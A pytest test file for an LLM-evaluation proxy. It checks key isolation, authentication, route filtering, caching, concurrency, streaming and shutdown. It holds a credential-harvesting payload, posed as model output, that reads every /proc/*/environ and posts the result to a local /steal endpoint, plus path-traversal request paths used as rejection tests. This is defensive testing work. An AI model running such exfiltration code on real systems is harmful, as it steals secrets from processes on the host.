"""The endpoint proxy as a real process in front of real HTTP endpoints on 127.0.0.1.

`Recorder` is a tiny aiohttp endpoint (in a thread of the test process) that records what it received
(bodies, Authorization, maximum concurrency) — launcher.testing.endpoint does not record those.
"""

from __future__ import annotations

import asyncio
import http.client
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import aiohttp
import pytest
from aiohttp import web

ROOT = Path(__file__).resolve().parents[2]
TOKEN = "t0ken-" + "a" * 58  # what run_all.sh would draw at random: the credential tasks present
AUTH = {"Authorization": f"Bearer {TOKEN}"}
WITH_TOKEN = {"LAUNCHER_PROXY_TOKEN": TOKEN}


class Recorder:
    """Replies `reply` after `delay` s; echoes the Authorization header when `echo_auth`; SSE when asked."""

    def __init__(self, reply: str = "ok", delay: float = 0.0, echo_auth: bool = False, **modes):
        self.reply, self.delay, self.echo_auth = reply, delay, echo_auth
        self.gzip, self.break_stream = modes.get("gzip", False), modes.get("break_stream", False)
        self.bodies: list[dict] = []
        self.auth: list[str | None] = []
        self.in_flight = self.max_in_flight = 0
        self.stolen: list[bytes] = []
        self.other: list[tuple[str, str, str | None]] = []  # (method, raw path, Authorization) of the rest
        self.loop = asyncio.new_event_loop()
        ready = threading.Event()
        self.thread = threading.Thread(target=self._run, args=(ready,), daemon=True)
        self.thread.start()
        assert ready.wait(10)
        self.url = f"http://127.0.0.1:{self.port}/v1/chat/completions"

    def _run(self, ready: threading.Event) -> None:
        asyncio.set_event_loop(self.loop)
        app = web.Application()
        app.router.add_post("/v1/chat/completions", self.handle)
        app.router.add_post("/v1/completions", self.handle)
        app.router.add_post("/steal", self.steal)
        app.router.add_route("*", "/{tail:.*}", self.anything)
        self.runner = web.AppRunner(app, access_log=None)
        self.loop.run_until_complete(self.runner.setup())
        site = web.TCPSite(self.runner, "127.0.0.1", 0)
        self.loop.run_until_complete(site.start())
        self.port = site._server.sockets[0].getsockname()[1]
        ready.set()
        self.loop.run_forever()

    async def anything(self, request: web.Request) -> web.Response:
        self.other.append((request.method, request.raw_path, request.headers.get("Authorization")))
        return web.json_response({"object": "list", "data": []})

    async def steal(self, request: web.Request) -> web.Response:
        self.stolen.append(await request.read())
        return web.Response(text="thanks")

    async def handle(self, request: web.Request) -> web.StreamResponse:
        body = await request.json()
        self.bodies.append(body)
        self.auth.append(request.headers.get("Authorization"))
        self.in_flight += 1
        self.max_in_flight = max(self.max_in_flight, self.in_flight)
        try:
            await asyncio.sleep(self.delay)
        finally:
            self.in_flight -= 1
        text = self.reply + (f" {request.headers.get('Authorization')}" if self.echo_auth else "")
        if body.get("stream"):
            response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
            await response.prepare(request)
            for piece in ("o", "k"):
                chunk = {"choices": [{"index": 0, "delta": {"content": piece}}]}
                await response.write(f"data: {json.dumps(chunk)}\n\n".encode())
                await asyncio.sleep(0.01)
                if self.break_stream:
                    request.transport.close()
                    raise asyncio.CancelledError
            await response.write(b"data: [DONE]\n\n")
            await response.write_eof()
            return response
        response = web.json_response(
            {
                "choices": [{"index": 0, "message": {"role": "assistant", "content": text}}],
                "usage": {"prompt_tokens": 5, "completion_tokens": 2},
                "n": len(self.bodies),
            }
        )
        if self.gzip:  # even though the proxy asks for identity
            response.enable_compression(force=web.ContentCoding.gzip)
        return response

    def stop(self) -> None:
        asyncio.run_coroutine_threadsafe(self.runner.cleanup(), self.loop).result(10)
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(10)


class ProxyProcess:
    def __init__(
        self, tmp: Path, upstream: str, adapter: dict, key_env: str | None = None, env: dict | None = None
    ):
        self.state = tmp / f"proxy-{uuid.uuid4().hex[:6]}"
        self.state.mkdir()
        config = self.state / "proxy.json"
        config.write_text(
            json.dumps({"upstream": upstream, "api_key_env": key_env, "adapter_config": adapter})
        )
        self.stderr = open(self.state / "stderr.log", "w")  # noqa: SIM115
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "launcher.proxy", "--config", str(config), "--state-dir", str(self.state)],
            stdout=subprocess.PIPE,
            stderr=self.stderr,
            text=True,
            env={**os.environ, "PYTHONPATH": str(ROOT), **WITH_TOKEN, **(env or {})},
        )
        line = self.proc.stdout.readline()
        assert line.startswith("listening on "), (line, (self.state / "stderr.log").read_text())
        self.port = int(line.split()[-1])
        self.base = f"http://127.0.0.1:{self.port}"

    def stop(self) -> int:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
        rc = self.proc.wait(timeout=30)
        self.stderr.close()
        return rc

    def stats(self) -> dict:
        return json.loads((self.state / "proxy_stats.json").read_text())


@pytest.fixture
def started():
    things = []
    yield things
    for thing in things:
        if isinstance(thing, ProxyProcess):
            thing.stop()
        else:
            thing.stop()


def chat(content: str, **extra) -> dict:
    return {"model": "m", "messages": [{"role": "user", "content": content}], "temperature": 0, **extra}


async def post_all(base: str, bodies: list[dict], headers: dict | None = AUTH, parallel: int = 64):
    """(status, text) for every body, at most `parallel` at a time, with the proxy's credential."""
    gate = asyncio.Semaphore(parallel)
    async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=60)) as session:

        async def one(body):
            async with gate, session.post(f"{base}/v1/chat/completions", json=body, headers=headers) as r:
                return r.status, await r.text()

        return await asyncio.gather(*(one(b) for b in bodies))


def test_key_added_upstream_and_never_written(tmp_path, started):
    secret = f"sk-test-{uuid.uuid4().hex}"
    rec = Recorder(echo_auth=True)
    started.append(rec)
    proxy = ProxyProcess(
        tmp_path,
        rec.url,
        {"use_request_logging": True},
        key_env="PROXY_TEST_KEY",
        env={"PROXY_TEST_KEY": secret},
    )
    started.append(proxy)
    results = asyncio.run(post_all(proxy.base, [chat(f"q{i}") for i in range(5)]))
    assert all(status == 200 for status, _ in results)
    assert rec.auth == [f"Bearer {secret}"] * 5  # the proxy's key, never the client's credential
    assert all(secret not in text for _, text in results)  # an upstream echoing the key: redacted
    assert proxy.stop() == 0
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert any(p.name == "proxy_requests.jsonl" for p in files) and any(
        p.parent.name != p.stem for p in files
    )
    for path in files:
        assert secret not in path.read_text(errors="replace"), path


def raw_request(port: int, method: str, path: str, headers: dict, body: bytes | None = None):
    """(status, body) for a request line sent exactly as given (aiohttp's client would normalise it)."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request(method, path, body=body, headers=headers)
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


CHAT = json.dumps({"model": "m", "messages": [{"role": "user", "content": "q"}], "temperature": 0}).encode()


@pytest.mark.parametrize(
    "headers",
    [{}, {"Authorization": "Bearer wrong"}, {"Authorization": TOKEN}, {"Authorization": f"Bearer {TOKEN}x"}],
)
def test_without_the_credential_nothing_reaches_the_upstream(tmp_path, started, headers):
    """N1: another user on the host (or a container on the host network) who finds the port gets 401 on
    every route; the key is never spent for it."""
    rec = Recorder()
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {}, key_env="PROXY_TEST_KEY", env={"PROXY_TEST_KEY": "sk-x"})
    started.append(proxy)
    for method, path, body in (
        ("POST", "/v1/chat/completions", CHAT),
        ("POST", "/v1/completions", CHAT),
        ("GET", "/v1/models", None),
        ("DELETE", "/v1/files/file-abc", None),
        ("POST", "/v1/../admin/keys", b"{}"),
    ):
        status, text = raw_request(proxy.port, method, path, headers, body)
        assert status == 401 and json.loads(text)["error"]["type"] == "authentication_error", (path, text)
    assert rec.bodies == [] and rec.other == []


@pytest.mark.parametrize(
    "method, path, status",
    [
        ("DELETE", "/v1/files/file-abc", 404),
        ("GET", "/v1/files", 404),
        ("POST", "/admin/keys", 404),
        ("POST", "/v1/models", 405),
        ("GET", "/v1/chat/completions", 405),
        ("PUT", "/v1/completions", 405),
        ("HEAD", "/v1/models", 405),
        ("POST", "/v1/../admin/keys", 400),
        ("POST", "/v1/%2e%2e/admin/keys", 400),
        ("POST", "/v1/%2E%2E/admin/keys", 400),
        ("POST", "/v1/chat/../../admin/keys", 400),
        ("POST", "//v1/chat/completions", 400),
        ("POST", "/v1//chat/completions", 400),
        ("POST", "/v1/chat%2fcompletions", 400),
        ("POST", "/v1/./chat/completions", 400),
        ("POST", "/v1/chat/completions/", 400),
        ("POST", "/v1\\chat/completions", 400),
        ("GET", "/v1/models/..%2f..%2fadmin", 400),
    ],
)
def test_only_the_evaluation_routes_exactly_as_sent(tmp_path, started, method, path, status):
    """N1: with the credential, only POST chat/completions, POST completions and GET models are served;
    a path that would change under normalisation is refused, never cleaned up and forwarded."""
    rec = Recorder()
    started.append(rec)
    upstream = f"http://127.0.0.1:{rec.port}/gateway/v1/chat/completions"
    proxy = ProxyProcess(tmp_path, upstream, {}, key_env="PROXY_TEST_KEY", env={"PROXY_TEST_KEY": "sk-x"})
    started.append(proxy)
    got, text = raw_request(proxy.port, method, path, AUTH, CHAT if method in ("POST", "PUT") else None)
    assert got == status, (path, text)
    assert rec.bodies == [] and rec.other == []
    # the one GET route goes to the gateway's base path, with the key and without the client's query
    got, text = raw_request(proxy.port, "GET", "/v1/models?x=/../admin", AUTH)
    assert got == 200, text
    assert rec.other == [("GET", "/gateway/v1/models", "Bearer sk-x")]


def test_a_deeply_nested_body_is_a_400_in_one_line(tmp_path, started):
    """N12: json.loads' RecursionError is the client's error, not a 500 with a traceback in proxy.log."""
    rec = Recorder()
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {})
    started.append(proxy)
    deep = b'{"messages": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    status, text = raw_request(proxy.port, "POST", "/v1/chat/completions", AUTH, deep)
    assert status == 400 and "nested too deeply" in json.loads(text)["error"]["message"]
    assert raw_request(proxy.port, "POST", "/v1/chat/completions", AUTH, CHAT)[0] == 200
    assert proxy.stop() == 0
    log = (proxy.state / "stderr.log").read_text()
    assert "Traceback" not in log and "RecursionError" not in log, log


def test_no_credential_in_the_environment_is_one_line_exit_2(tmp_path):
    config = tmp_path / "proxy.json"
    config.write_text(json.dumps({"upstream": "http://127.0.0.1:9/v1", "api_key_env": None}))
    env = {k: v for k, v in os.environ.items() if k != "LAUNCHER_PROXY_TOKEN"}
    for token in (None, "short"):
        proc = subprocess.run(
            [sys.executable, "-m", "launcher.proxy", "--config", str(config), "--state-dir", str(tmp_path)],
            capture_output=True, text=True, timeout=60,
            env={**env, "PYTHONPATH": str(ROOT), **({"LAUNCHER_PROXY_TOKEN": token} if token else {})},
        )  # fmt: skip
        assert proc.returncode == 2 and proc.stdout == "" and not (tmp_path / "proxy.port").exists()
        assert proc.stderr.startswith("error: LAUNCHER_PROXY_TOKEN") and proc.stderr.count("\n") == 1


def test_cache_shared_across_proxies(tmp_path, started):
    rec = Recorder(reply="cached answer")
    started.append(rec)
    bodies = [chat(f"question {i}") for i in range(20)]
    adapter = {"use_caching": True, "caching_dir": str(tmp_path / "shared-cache")}
    first = ProxyProcess(tmp_path, rec.url, adapter)
    started.append(first)
    one = asyncio.run(post_all(first.base, bodies))
    assert first.stop() == 0
    assert len(rec.bodies) == 20 and first.stats()["upstream_requests"] == 20
    second = ProxyProcess(tmp_path, rec.url, adapter)
    started.append(second)
    two = asyncio.run(post_all(second.base, bodies))
    assert second.stop() == 0
    assert len(rec.bodies) == 20  # 0 upstream requests the second time
    assert two == one
    stats = second.stats()
    assert (stats["cache_hits"], stats["upstream_requests"], stats["requests"]) == (20, 0, 20)


def test_two_endpoints_behind_one_cache_never_answer_for_each_other(tmp_path, started):
    """N3: a comparison sweep with one model_id and a shared caching_dir: each endpoint is asked."""
    a, b = Recorder(reply="from a"), Recorder(reply="from b")
    started += [a, b]
    adapter = {"use_caching": True, "caching_dir": str(tmp_path / "shared-cache")}
    texts = []
    for rec in (a, b, a):
        proxy = ProxyProcess(tmp_path, rec.url, adapter)
        started.append(proxy)
        [(status, text)] = asyncio.run(post_all(proxy.base, [chat("same question")]))
        assert status == 200 and proxy.stop() == 0
        texts.append(json.loads(text)["choices"][0]["message"]["content"])
    assert texts == ["from a", "from b", "from a"]
    assert (len(a.bodies), len(b.bodies)) == (1, 1)  # the third was a's cached answer


def test_sampled_requests_are_not_cached_unless_asked(tmp_path, started):
    rec = Recorder()
    started.append(rec)
    repeats = [chat("draw", temperature=0.8)] * 3  # pass@k-style repeats of one sampled request
    proxy = ProxyProcess(tmp_path, rec.url, {})
    started.append(proxy)
    first = asyncio.run(post_all(proxy.base, repeats, parallel=1))
    assert len(rec.bodies) == 3 and len({text for _, text in first}) == 3  # three distinct draws
    proxy.stop()
    sampled = ProxyProcess(tmp_path, rec.url, {"cache_sampled": True})
    started.append(sampled)
    asyncio.run(post_all(sampled.base, repeats, parallel=1))
    assert len(rec.bodies) == 4  # one miss, then two hits


def test_identical_requests_in_flight_share_one_upstream_request(tmp_path, started):
    rec = Recorder(delay=0.3)
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {})
    started.append(proxy)
    results = asyncio.run(post_all(proxy.base, [chat("same")] * 10 + [chat("other")]))
    assert len(rec.bodies) == 2
    assert len({text for _, text in results[:10]}) == 1 and all(status == 200 for status, _ in results)


def test_shared_budget_caps_concurrency(tmp_path, started):
    rec = Recorder(delay=0.02)
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {"use_caching": False, "max_concurrent": 4})
    started.append(proxy)

    async def clients():  # 4 "tasks" x parallelism 32, all at once
        return await asyncio.gather(
            *(post_all(proxy.base, [chat(f"t{t}-{i}") for i in range(32)]) for t in range(4))
        )

    results = asyncio.run(clients())
    assert all(status == 200 for task in results for status, _ in task)
    assert len(rec.bodies) == 128
    assert rec.max_in_flight == 4  # reached, never exceeded
    assert proxy.stop() == 0
    assert proxy.stats()["max_in_flight"] == 4


def test_reasoning_system_prompt_and_payload(tmp_path, started):
    rec = Recorder(reply="<think>let me see, 2+2</think>\nAnswer: 4")
    started.append(rec)
    adapter = {
        "use_reasoning": True,
        "use_system_prompt": True,
        "custom_system_prompt": "You are terse.",
        "system_prompt_strategy": "replace",
        "params_to_remove": ["seed"],
        "params_to_add": {"top_p": 0.5},
    }
    proxy = ProxyProcess(tmp_path, rec.url, adapter)
    started.append(proxy)
    body = chat("2+2?", seed=7)
    body["messages"].insert(0, {"role": "system", "content": "client system"})
    [(status, text)] = asyncio.run(post_all(proxy.base, [body]))
    assert status == 200
    received = rec.bodies[0]
    assert received["messages"] == [
        {"role": "system", "content": "You are terse."},
        {"role": "user", "content": "2+2?"},
    ]
    assert "seed" not in received and received["top_p"] == 0.5
    answer = json.loads(text)
    assert answer["choices"][0]["message"]["content"] == "Answer: 4"
    assert answer["proxy_reasoning"][0]["reasoning_chars"] == len("let me see, 2+2")
    assert proxy.stop() == 0
    assert proxy.stats()["reasoning_chars"] == len("let me see, 2+2")


def test_streaming_passed_through(tmp_path, started):
    rec = Recorder()
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {})
    started.append(proxy)

    async def stream():
        url = f"{proxy.base}/v1/chat/completions"
        async with (
            aiohttp.ClientSession(headers=AUTH) as session,
            session.post(url, json=chat("s", stream=True)) as r,
        ):
            assert r.headers["Content-Type"].startswith("text/event-stream")
            return [line async for line in r.content]

    lines = [ln for ln in asyncio.run(stream()) if ln.strip()]
    assert lines[-1] == b"data: [DONE]\n"
    pieces = [json.loads(ln[6:])["choices"][0]["delta"]["content"] for ln in lines[:-1]]
    assert pieces == ["o", "k"]
    # a stream is never cached: a second one goes upstream again
    asyncio.run(stream())
    assert len(rec.bodies) == 2


def test_broken_stream_ends_early_and_the_proxy_goes_on(tmp_path, started):
    rec = Recorder(break_stream=True)
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {})
    started.append(proxy)

    async def stream():
        url = f"{proxy.base}/v1/chat/completions"
        async with (
            aiohttp.ClientSession(headers=AUTH) as session,
            session.post(url, json=chat("s", stream=True)) as r,
        ):
            try:
                return [line async for line in r.content]
            except aiohttp.ClientPayloadError:
                return ["payload error"]

    lines = asyncio.run(stream())
    assert b"data: [DONE]\n" not in lines and len(rec.bodies) == 1  # not retried once bytes went out
    rec.break_stream = False
    [(status, _)] = asyncio.run(post_all(proxy.base, [chat("after")]))
    assert status == 200
    assert proxy.stop() == 0 and proxy.stats()["errors"] == {"stream_broken": 1}


@pytest.mark.parametrize("gzip", [False, True])
def test_oversized_answer_is_a_502(tmp_path, started, gzip):
    rec = Recorder(reply="x" * 100_000, gzip=gzip)  # gzip: 100 kB from a few hundred bytes on the wire
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {"max_response_bytes": 10_000})
    started.append(proxy)
    [(status, text)] = asyncio.run(post_all(proxy.base, [chat("big")]))
    assert status == 502 and json.loads(text)["error"]["type"] == "upstream_too_large"


def test_retries_hide_upstream_faults(tmp_path, started, endpoint):
    ep = endpoint(mode="echo", fault_rate=1.0, slow=0.2)  # every prompt's first request fails
    proxy = ProxyProcess(tmp_path, ep.url(), {"use_caching": False, "backoff_base": 0.05})
    started.append(proxy)
    results = asyncio.run(post_all(proxy.base, [chat(f"f{i}") for i in range(30)]))
    # 500/503/429/502/504/dropped are retried at the proxy; a malformed 200 is passed on as it came
    for status, text in results:
        assert status == 200, text
        assert text == '{"choices": [' or json.loads(text)["choices"][0]["message"]["content"] == "ok"
    assert proxy.stop() == 0
    assert proxy.stats()["retries"] > 0


def test_upstream_down_is_a_clear_error(tmp_path, started):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        dead = s.getsockname()[1]  # closed when the block ends: nobody listens there
    proxy = ProxyProcess(tmp_path, f"http://127.0.0.1:{dead}/v1/chat/completions", {"max_retries": 1})
    started.append(proxy)
    [(status, text)] = asyncio.run(post_all(proxy.base, [chat("x")]))
    assert status == 502
    error = json.loads(text)["error"]
    assert error["type"] == "upstream_connection" and f"127.0.0.1:{dead}" in error["message"]
    assert "unreachable after 2 attempt(s)" in error["message"]


def test_other_paths_and_bad_bodies(tmp_path, started):
    rec = Recorder()
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {})
    started.append(proxy)

    async def go():
        async with aiohttp.ClientSession(headers=AUTH) as session:
            async with session.get(f"{proxy.base}/nothing") as r:
                nothing = r.status, await r.json()
            async with session.post(f"{proxy.base}/v1/chat/completions", data=b"[1,") as r:
                bad = r.status, await r.json()
            # nemo-evaluator's progress_tracking interceptor posts its count here (a sink, not counted)
            async with session.post(f"{proxy.base}/proxy/progress", json={"samples_processed": 3}) as r:
                sink = r.status
            async with session.get(f"{proxy.base}/proxy/stats") as r:
                stats = await r.json()
        return nothing, bad, stats, sink

    nothing, bad, stats, sink = asyncio.run(go())
    assert sink == 204 and stats["requests"] == 1
    assert nothing[0] == 404 and "no route /nothing" in nothing[1]["error"]["message"]
    assert bad[0] == 400 and bad[1]["error"]["type"] == "invalid_request_error"
    assert stats["errors"] == {"bad_request": 1} and rec.bodies == []


def test_sigterm_writes_stats_and_exits_0(tmp_path, started):
    rec = Recorder()
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {"use_caching": False})
    started.append(proxy)
    asyncio.run(post_all(proxy.base, [chat("a"), chat("b")]))
    assert proxy.stop() == 0
    stats = proxy.stats()
    assert (stats["requests"], stats["upstream_requests"], stats["tokens_in"], stats["tokens_out"]) == (
        2,
        2,
        10,
        4,
    )
    assert stats["latency_ms"]["p50"] is not None
    assert (proxy.state / "proxy.port").read_text().strip() == str(proxy.port)
    assert (proxy.state / "proxy.pid").read_text().strip() == str(proxy.proc.pid)


def test_the_port_is_announced_before_aiohttp_loads_and_early_requests_are_served(tmp_path, started):
    """The proxy binds and writes its port file first (run_all.sh starts the first container then); a
    connection made while it still imports its server waits in the kernel's queue and is answered."""
    rec = Recorder()
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {"use_caching": False})  # returns at "listening on"
    started.append(proxy)
    [(status, text)] = asyncio.run(post_all(proxy.base, [chat("early")]))
    assert status == 200 and json.loads(text)["choices"][0]["message"]["content"] == "ok"
    assert proxy.stop() == 0 and proxy.stats()["requests"] == 1


def test_a_port_in_use_is_one_line_and_no_port_file(tmp_path):
    taken = socket.socket()
    taken.bind(("127.0.0.1", 0))
    taken.listen(1)
    port = taken.getsockname()[1]
    config = tmp_path / "proxy.json"
    config.write_text(json.dumps({"upstream": "http://127.0.0.1:9/v1/chat/completions", "api_key_env": None}))
    try:
        proc = subprocess.run(
            [sys.executable, "-m", "launcher.proxy", "--config", str(config), "--state-dir", str(tmp_path),
             "--port", str(port)],
            capture_output=True, text=True, timeout=60,
            env={**os.environ, "PYTHONPATH": str(ROOT), **WITH_TOKEN},
        )  # fmt: skip
    finally:
        taken.close()
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr == f"error: the proxy cannot listen on 127.0.0.1:{port}: Address already in use\n"
    assert not (tmp_path / "proxy.port").exists()


def test_a_cache_folder_it_cannot_create_is_one_line_before_ready(tmp_path):
    """The cache and request log are opened before the port file appears: run_all.sh then reports the
    proxy's one line instead of starting tasks against a proxy about to die."""
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    config = tmp_path / "proxy.json"
    adapter = {"use_caching": True, "caching_dir": str(blocker / "cache")}
    config.write_text(
        json.dumps({"upstream": "http://127.0.0.1:9/v1/chat/completions", "adapter_config": adapter})
    )
    proc = subprocess.run(
        [sys.executable, "-m", "launcher.proxy", "--config", str(config), "--state-dir", str(tmp_path)],
        capture_output=True, text=True, timeout=60, env={**os.environ, "PYTHONPATH": str(ROOT), **WITH_TOKEN},
    )  # fmt: skip
    assert proc.returncode == 2 and proc.stdout == "", proc.stderr
    assert proc.stderr == f"error: the proxy cannot open {blocker / 'cache'}: Not a directory\n"
    assert not (tmp_path / "proxy.port").exists()


def test_a_sigterm_before_the_server_runs_stops_it_with_stats(tmp_path, started):
    """kill right after the port file appeared (aiohttp still loading): the signal is kept for the loop,
    not lost (the proxy would then serve forever and run_all.sh's stop_proxy would wait on it)."""
    rec = Recorder()
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {"use_caching": False})
    started.append(proxy)
    proxy.proc.send_signal(signal.SIGTERM)
    assert proxy.proc.wait(timeout=30) == 0
    assert proxy.stats()["requests"] == 0


def test_a_second_sigterm_while_stopping_still_exits_0_with_stats(tmp_path, started):
    rec = Recorder(delay=0.5)
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {"use_caching": False})
    started.append(proxy)

    async def go():
        pending = asyncio.ensure_future(post_all(proxy.base, [chat("slow")]))
        while not rec.bodies:
            await asyncio.sleep(0.02)
        for _ in range(20):  # `launcher kill` signals the group, then run_all.sh's stop_proxy again
            proxy.proc.send_signal(signal.SIGTERM)
            await asyncio.sleep(0.05)
            if proxy.proc.poll() is not None:
                break
        return await pending

    asyncio.run(go())
    assert proxy.proc.wait(timeout=30) == 0
    assert proxy.stats()["requests"] == 1


def test_sigterm_lets_a_request_in_flight_finish(tmp_path, started):
    rec = Recorder(delay=1.0)
    started.append(rec)
    proxy = ProxyProcess(tmp_path, rec.url, {})
    started.append(proxy)

    async def go():
        pending = asyncio.ensure_future(post_all(proxy.base, [chat("slow")]))
        while not rec.bodies:  # the request reached the endpoint: it is in flight at the proxy
            await asyncio.sleep(0.05)
        proxy.proc.send_signal(signal.SIGTERM)
        return await pending

    [(status, text)] = asyncio.run(go())
    assert status == 200 and json.loads(text)["choices"][0]["message"]["content"] == "ok"
    assert proxy.stop() == 0 and proxy.stats()["responses"] == {"200": 1}


@pytest.mark.parametrize(
    "config, env, expected",
    [
        ({"upstream": "http://x", "adapter_config": {"use_cachng": True}}, {}, "adapter_config.use_cachng"),
        ({"upstream": "http://x", "api_key_env": "PROXY_TEST_UNSET"}, {}, "PROXY_TEST_UNSET"),
        ({"adapter_config": {}}, {}, "'upstream'"),
    ],
)
def test_bad_config_is_one_line_exit_2(tmp_path, config, env, expected):
    path = tmp_path / "p.json"
    path.write_text(json.dumps(config))
    proc = subprocess.run(
        [sys.executable, "-m", "launcher.proxy", "--config", str(path), "--state-dir", str(tmp_path)],
        capture_output=True,
        text=True,
        env={
            k: v
            for k, v in {**os.environ, "PYTHONPATH": str(ROOT), **WITH_TOKEN, **env}.items()
            if k != "PROXY_TEST_UNSET"
        },
        timeout=30,
    )
    assert proc.returncode == 2 and proc.stdout == ""
    assert expected in proc.stderr and len(proc.stderr.strip().splitlines()) == 1, proc.stderr


def harness_config(results: Path, url: str, task: str, limit: int) -> Path:
    """A harness run_config.json (the keys launcher.harness reads) whose API_KEY is the proxy's credential
    (HARNESS_ENV), as the launcher wires it: the proxy alone has the key."""
    results.mkdir(parents=True, exist_ok=True)
    params = {"parallelism": 8, "request_timeout": 10.0, "max_retries": 2, "max_error_fraction": 0.05,
              "limit_samples": limit, "temperature": 0.0, "top_p": None, "max_tokens": 64, "seed": None,
              "stop": None}  # fmt: skip
    config = {"task": task, "model_id": "fake", "url": url, "endpoint_type": "chat", "api_key_env": "API_KEY",
              "params": params}  # fmt: skip
    (results / "run_config.json").write_text(json.dumps(config))
    return results / "run_config.json"


def harness_score(results: Path, task: str, metric: str) -> float:
    data = json.loads((results / "results.json").read_text())
    return data["results"]["tasks"][task]["metrics"][metric]["scores"][metric]["value"]


def test_harness_through_the_proxy_then_cached_rerun(tmp_path, started, endpoint):
    """The issue's caching test at the harness level: a second run sharing the cache_dir sends 0 upstream
    requests and scores the same."""
    ep = endpoint("oracle")
    adapter = {"caching_dir": str(tmp_path / "cache")}
    scores = []
    for run in ("first", "second"):
        proxy = ProxyProcess(
            tmp_path, ep.url(), adapter, key_env="PROXY_TEST_KEY", env={"PROXY_TEST_KEY": "k-1"}
        )
        started.append(proxy)
        config = harness_config(tmp_path / run, f"{proxy.base}/v1/chat/completions", "gsm8k_cot_zeroshot", 30)
        proc = subprocess.run(
            [sys.executable, "-m", "launcher.harness", "run", "--config", str(config)],
            capture_output=True, text=True, timeout=120,
            env={**os.environ, "PYTHONPATH": str(ROOT), "API_KEY": TOKEN},
        )  # fmt: skip
        assert proc.returncode == 0, proc.stdout + proc.stderr
        scores.append(harness_score(tmp_path / run, "gsm8k_cot_zeroshot", "exact_match,strict-match"))
        assert proxy.stop() == 0
        if run == "first":
            upstream_after_first = ep.stats()["total"]
    assert scores == [1.0, 1.0]
    assert ep.stats()["total"] == upstream_after_first == 30
    assert proxy.stats()["cache_hits"] == 30 and proxy.stats()["upstream_requests"] == 0


HOSTILE = """```python
import glob, urllib.request
loot = b""
for path in glob.glob("/proc/*/environ"):
    try:
        loot += open(path, "rb").read() + b"\\n"
    except OSError:
        pass
try:
    urllib.request.urlopen("http://127.0.0.1:{port}/steal", loot, timeout=5)
except Exception:
    pass
```"""


def test_task_container_has_no_key_to_steal(tmp_path, started, harness_image, docker_engine):
    """HumanEval in the real harness image, through the proxy: model code that reads every /proc/*/environ
    and posts it to 127.0.0.1 finds no key; neither does `docker inspect` of the task container."""
    secret = f"sk-hostile-{uuid.uuid4().hex}"
    rec = Recorder()
    started.append(rec)
    rec.reply = HOSTILE.format(port=rec.port)
    proxy = ProxyProcess(tmp_path, rec.url, {}, key_env="PROXY_TEST_KEY", env={"PROXY_TEST_KEY": secret})
    started.append(proxy)
    results = tmp_path / "results"
    harness_config(results, f"{proxy.base}/v1/chat/completions", "humaneval_chat", 3)
    results.chmod(0o777)
    name = f"launcher-proxy-test-{uuid.uuid4().hex[:8]}"
    run = subprocess.run(
        ["docker", "run", "--name", name, "--network", "host", "--user", f"{os.getuid()}:{os.getgid()}",
         "-v", f"{results}:/results", "-e", "HOME=/tmp", "-e", f"API_KEY={TOKEN}", harness_image,
         "python3", "-m", "launcher.harness", "run", "--config", "/results/run_config.json"],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    try:
        inspect = subprocess.run(
            ["docker", "inspect", name], capture_output=True, text=True, check=True
        ).stdout
    finally:
        subprocess.run(["docker", "rm", "-f", name], capture_output=True)  # the container this test started
    assert len(rec.bodies) >= 3, run.stdout + run.stderr  # the model was asked, through the proxy
    assert rec.auth[0] == f"Bearer {secret}"
    assert secret not in inspect
    # (a sandbox without network makes `stolen` empty: then nothing left the container at all)
    assert all(secret.encode() not in loot for loot in rec.stolen)
    print(f"stolen posts: {len(rec.stolen)}, bytes: {sum(map(len, rec.stolen))}")
    for path in results.rglob("*"):
        if path.is_file():
            assert secret not in path.read_text(errors="replace"), path


# ---- wired into the launcher: `launcher run` on the local executor, real harness containers -------------


def pid_gone(pid: int) -> bool:
    status = Path(f"/proc/{pid}/status")
    return not status.exists() or "zombie" in status.read_text()


def test_launcher_run_goes_through_the_proxy_then_kill_and_resume(cli, endpoint, harness_image, tmp_path):
    from helpers import GSM8K_PERFECT, invocation_of, jobs, wait_for

    ep = endpoint("oracle", latency=0.2)
    secret = f"sk-e2e-{uuid.uuid4().hex}"
    env = {"E2E_PROXY_KEY": secret}
    args = ("execution=local", "target=local", f"target.api_endpoint.url={ep.url()}",
            "target.api_endpoint.api_key=E2E_PROXY_KEY", f"execution.output_dir={tmp_path}/out",
            "+evaluation.tasks=[launcher.gsm8k_cot_zeroshot]", "evaluation.params.limit_samples=40",
            "evaluation.params.parallelism=2")  # fmt: skip
    proc = cli("run", *args, env=env)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr
    inv = invocation_of(proc)
    folder = Path(jobs(cli, inv)["launcher.gsm8k_cot_zeroshot"]["folder"]).parent
    wait_for(lambda: (folder / "proxy/proxy.pid").exists(), 60, "the proxy to start")
    pid = int((folder / "proxy/proxy.pid").read_text())
    wait_for(lambda: ep.stats()["total"] > 2, 60, "requests through the proxy")
    cli("kill", inv, check_rc=0)
    wait_for(lambda: pid_gone(pid), 30, "the proxy to stop with the invocation")
